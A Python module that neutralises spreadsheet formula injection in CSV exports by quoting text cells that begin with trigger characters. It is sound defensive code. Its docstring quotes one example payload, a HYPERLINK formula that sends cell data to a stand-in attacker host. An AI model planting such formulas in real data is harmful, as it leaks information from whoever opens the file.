"""Text a spreadsheet must never run: formula (CSV) injection, neutralised.

A spreadsheet treats a cell as a formula when it starts with `=`, `+`, `-` or `@` (and some
also after a leading tab, carriage return or line feed). A customer named
`=HYPERLINK("https://evil.example/?"&A2, "Click")`, typed by anyone, would otherwise run on
the computer of whoever opens the export. Following OWASP's guidance on CSV injection (and
ASVS 5.0 requirement 1.2.10), a text cell starting with one of those characters, a NUL, or
their full-width forms (＝ ＋ － ＠, which input methods for Chinese produce and some
spreadsheets read as the ASCII ones) is marked as text: prefixed with a single quote in CSV,
and stored as a string with Excel's own "quote prefix" in .xlsx (the writers do that part).

Leading blanks do not hide a trigger: "  =1+1" is treated like "=1+1". Only text cells are
neutralised; numbers stay numbers, so a genuine -5 is still a number you can sum.
"""

# ASCII triggers, control characters that some spreadsheets skip before a trigger, and the
# full-width forms of the four operators.
TRIGGERS = frozenset("=+-@\t\r\n\0＝＋－＠")
# Spaces a spreadsheet may skip before reading a formula: ASCII, no-break, ideographic.
_BLANKS = " \u00a0\u3000"
QUOTE = "'"


def is_risky(text: str) -> bool:
    """Whether a spreadsheet could read `text` as a formula (or a command) when opened."""
    return bool(text) and (text[0] in TRIGGERS or text.lstrip(_BLANKS)[:1] in TRIGGERS)


def neutralised(text: str) -> str:
    """`text` as a CSV cell that reads as text: a single quote before anything risky."""
    return QUOTE + text if is_risky(text) else text


def unquoted(text: str) -> str:
    """`neutralised` undone: a CSV cell our exports (or a careful person) marked as text reads
    as what it says, so an exported list imports back unchanged. A quote before anything else
    is part of the text and stays."""
    return text[1:] if text.startswith(QUOTE) and is_risky(text[1:]) else text
